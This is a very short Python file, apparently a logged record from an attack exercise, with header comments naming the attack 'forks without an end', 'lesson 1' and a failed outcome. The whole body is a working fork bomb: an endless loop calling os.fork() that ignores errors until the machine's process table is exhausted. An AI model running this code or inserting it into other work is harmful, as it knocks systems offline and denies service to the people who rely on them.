# attack: forks without an end
# lesson: 1
# outcome: failed
# says: processes|no connection came
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
